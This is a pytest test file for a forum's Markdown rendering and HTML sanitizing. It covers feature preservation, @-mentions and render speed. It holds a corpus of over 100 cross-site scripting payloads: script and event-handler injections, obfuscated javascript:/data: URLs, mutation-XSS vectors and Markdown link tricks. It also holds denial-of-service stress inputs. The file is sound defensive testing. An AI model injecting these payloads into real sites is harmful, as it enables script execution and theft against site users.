"""Markdown rendering and sanitizing: features kept, hostile input neutralised, never slow."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from forum.markup import MAX_BODY_CHARS, BodyTooLong, render_markdown, sanitize_html

SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


def url_scheme(url: str) -> str | None:
    """Return the scheme a browser would read from ``url``, or None for a relative URL.

    Follows the WHATWG URL parser: leading controls and spaces are stripped and tabs and
    newlines anywhere are removed before the scheme is read.
    """
    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21)))).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _Audit(HTMLParser):
    """Collects everything dangerous a browser would act on in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "img",
            "form",
            "input",
            "button",
            "base",
            "link",
            "meta",
            "frame",
            "frameset",
            "video",
            "audio",
            "source",
            "textarea",
            "select",
            "template",
            "noscript",
        }:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "src"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "action", "xlink:href"} and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>x</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
]

HOSTILE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo '<script>alert(1)</script>' ?>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<td onmouseover=alert(1)>x</td>",
    "<code onclick=alert(1)>x</code>",
    '<pre><code class="language-x" onclick="alert(1)">y</code></pre>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```js onclick=alert(1)\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&#x3A;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click]("onmouseover=alert(1))',
    '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '[click](https://ok.example" onmouseover="alert(1))',
    "![img](javascript:alert(1))",
    "![img](https://evil.example/tracker.png)",
    '![img"onerror="alert(1)](x)',
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref][1]\n\n[1]: javascript:alert(1) "title"',
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    '<https://ok.example/" onclick="alert(1)>',
    "<mailto:x@example.com?body=<script>alert(1)</script>>",
    "javascript:alert(1)",
    'www.example.com/"onclick="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "1. <iframe src=x></iframe>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    '_<a href="javascript:alert(1)">x</a>_',
    "~~<svg onload=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<div><p>unclosed <b>tags <i>everywhere",
    "</p></div></body></html><script>alert(1)</script>",
    '<a href="https://ok.example" target="_blank">tabnab</a>',
    '<a href="https://ok.example" rel="opener">opener</a>',
    '<abbr title="x" onmouseover="alert(1)">abbr</abbr>',
    '<a href="//evil.example/%0d%0ajavascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example)<script>alert(1)</script>",
    "<sVg/oNloAd=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<img src=`x` onerror=`alert(1)`>",
    '<a href="\x0bjavascript:alert(1)">x</a>',
    '<a href="https:&#47;&#47;ok.example">ok</a>',
    *[f"[link]({scheme})" for scheme in SCHEMES],
    *[f'<a href="{scheme}">raw</a>' for scheme in SCHEMES],
    *[f"[ref]\n\n[ref]: {scheme}" for scheme in SCHEMES],
]


def test_corpus_is_big_enough() -> None:
    assert len(HOSTILE_BODIES) >= 100


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_hostile_body_is_neutralised(body: str) -> None:
    html = render_markdown(body)
    assert audit(html) == [], html
    assert "<script" not in html.lower()


@pytest.mark.parametrize("html", HOSTILE_BODIES)
def test_sanitizer_alone_neutralises_raw_html(html: str) -> None:
    assert audit(sanitize_html(html)) == []


def test_markdown_features_survive() -> None:
    html = render_markdown(
        "# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n"
        "```python\nprint('<hi>')\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quoted\n\n- one\n- two\n\n"
        "[site](https://example.com) and www.example.org and [mail](mailto:a@example.com)"
    )
    for fragment in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<s>gone</s>",
        "<code>code</code>",
        "<code class=\"language-python\">print('&lt;hi&gt;')",
        "<table>",
        "<td>1</td>",
        "<blockquote>",
        "<li>one</li>",
        '<a href="https://example.com" rel="nofollow ugc noopener">site</a>',
        '<a href="http://www.example.org" rel="nofollow ugc noopener">',
        '<a href="mailto:a@example.com" rel="nofollow ugc noopener">mail</a>',
    ):
        assert fragment in html, fragment


def test_every_link_gets_our_rel() -> None:
    html = sanitize_html('<a href="https://x.example" rel="opener noreferrer">x</a>')
    assert html == '<a href="https://x.example" rel="nofollow ugc noopener">x</a>'


def test_relative_links_survive_for_quotes() -> None:
    assert 'href="/posts/12"' in render_markdown("[wrote](/posts/12)")


def test_size_limit_is_checked_before_parsing() -> None:
    render_markdown("x" * MAX_BODY_CHARS)
    with pytest.raises(BodyTooLong):
        render_markdown("[" * (MAX_BODY_CHARS + 1))


PATHOLOGICAL = {
    "open brackets": "[" * MAX_BODY_CHARS,
    "balanced brackets": "[" * (MAX_BODY_CHARS // 2) + "]" * (MAX_BODY_CHARS // 2),
    "unclosed links": "[a](" * (MAX_BODY_CHARS // 4),
    "unclosed images": "![a](" * (MAX_BODY_CHARS // 5),
    "empty links": "[](" * (MAX_BODY_CHARS // 3),
    "references": "[a][b]" * (MAX_BODY_CHARS // 6),
    "definitions": "[a]: b\n" * (MAX_BODY_CHARS // 7),
    "stars": "*" * MAX_BODY_CHARS,
    "alternating stars": "*a" * (MAX_BODY_CHARS // 2),
    "strong runs": "**a" * (MAX_BODY_CHARS // 3),
    "emphasis words": "*a* " * (MAX_BODY_CHARS // 4),
    "mixed emphasis": "*a **a " * (MAX_BODY_CHARS // 7),
    "underscores": "a_" * (MAX_BODY_CHARS // 2),
    "backticks": "`" * MAX_BODY_CHARS,
    "code spans": "`a` " * (MAX_BODY_CHARS // 4),
    "nested quotes": ">" * MAX_BODY_CHARS,
    "quote lines": "> a\n\n" * (MAX_BODY_CHARS // 5),
    "nested lists": "  - " * (MAX_BODY_CHARS // 4),
    "deep list": "\n".join("  " * i + "- a" for i in range(300))[:MAX_BODY_CHARS],
    "list items": "- a\n" * (MAX_BODY_CHARS // 4),
    "ordered items": "1. a\n" * (MAX_BODY_CHARS // 5),
    "headings": "# a\n" * (MAX_BODY_CHARS // 4),
    "rules": "---\n" * (MAX_BODY_CHARS // 4),
    "setext": "a\n---\n" * (MAX_BODY_CHARS // 6),
    "table rows": "|a|\n|-|\n" + "|a|\n" * ((MAX_BODY_CHARS - 10) // 4),
    "wide table": "|a|b|c|d|e|f|g|h|i|j|\n|-|-|-|-|-|-|-|-|-|-|\n"
    + "|a|b|c|d|e|f|g|h|i|j|\n" * 2200,
    "angle brackets": "<" * MAX_BODY_CHARS,
    "html-ish": "<a" * (MAX_BODY_CHARS // 2),
    "entities": "&#" * (MAX_BODY_CHARS // 2),
    "escapes": "\\" * MAX_BODY_CHARS,
    "specials": '<>&"' * (MAX_BODY_CHARS // 4),
    "lines": "a\n" * (MAX_BODY_CHARS // 2),
    "hard breaks": "a  \n" * (MAX_BODY_CHARS // 4),
    "bare urls": "http://" * (MAX_BODY_CHARS // 7),
    "many urls": " http://a.b" * (MAX_BODY_CHARS // 11),
    "many links": "[a](http://a.com) " * (MAX_BODY_CHARS // 18),
    "emails": "a@" * (MAX_BODY_CHARS // 2),
    "code fence of specials": "```\n" + '<&>"' * 12_400 + "\n```",
}


@pytest.mark.parametrize("body", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_no_body_within_the_limit_takes_a_second(body: str) -> None:
    assert len(body) <= MAX_BODY_CHARS
    started = time.process_time()
    html = render_markdown(body)
    elapsed = time.process_time() - started
    assert elapsed < 1.0, f"{elapsed:.2f}s"
    assert audit(html) == []


# --- mentions and plain text -------------------------------------------------------------


def _resolver(known: set[str]):  # noqa: ANN202
    seen: list[str] = []

    def resolve(name: str) -> str | None:
        if name.lower() not in known:
            return None
        seen.append(name)
        return f"/u/{name.lower()}"

    return resolve, seen


def test_mentions_of_known_names_become_links() -> None:
    resolve, seen = _resolver({"ann", "ben.o"})
    html = render_markdown("Hi @Ann, ask @ben.o. and @nobody", resolve)
    assert '<a href="/u/ann" class="mention" rel="nofollow ugc noopener">@Ann</a>' in html
    assert '<a href="/u/ben.o" class="mention" rel="nofollow ugc noopener">@ben.o</a>.' in html
    assert "@nobody" in html and "/u/nobody" not in html
    assert seen == ["Ann", "ben.o"]


@pytest.mark.parametrize(
    "body",
    [
        "`@ann`",
        "```\n@ann\n```",
        "    @ann indented code",
        "mail ann@example.com",
        "[talk to @ann](https://example.com)",
        "https://example.com/@ann",
        "@@ann",
    ],
)
def test_no_mentions_in_code_links_or_addresses(body: str) -> None:
    resolve, seen = _resolver({"ann"})
    html = render_markdown(body, resolve)
    assert 'class="mention"' not in html
    assert seen == []


def test_a_mention_class_cannot_be_written_by_hand() -> None:
    html = render_markdown('<a href="/x" class="mention">x</a> [y](/y "t")')
    assert 'class="mention"' not in html
    assert (
        sanitize_html('<a href="/u/x" class="evil">x</a>')
        == '<a href="/u/x" rel="nofollow ugc noopener">x</a>'
    )


def test_plain_text_keeps_words_and_drops_markup() -> None:
    from forum.markup import plain_text

    text = plain_text(
        "# Heading\n\n**Bold** and _it_ [link text](https://x.example/secret-url)\n\n"
        "```py\nprint('code')\n```\n\n> quoted <script>alert(1)</script>\n\n- item"
    )
    assert (
        text == "Heading Bold and it link text print('code') quoted <script>alert(1)</script> item"
    )


@pytest.mark.parametrize(
    "body",
    ["@" * MAX_BODY_CHARS, "@ann " * (MAX_BODY_CHARS // 5), "a@" * (MAX_BODY_CHARS // 2)],
    ids=["at signs", "mentions", "addresses"],
)
def test_mention_heavy_bodies_stay_fast(body: str) -> None:
    resolve, _ = _resolver({"ann"})
    started = time.process_time()
    html = render_markdown(body, resolve)
    assert time.process_time() - started < 1.0
    assert audit(html) == []
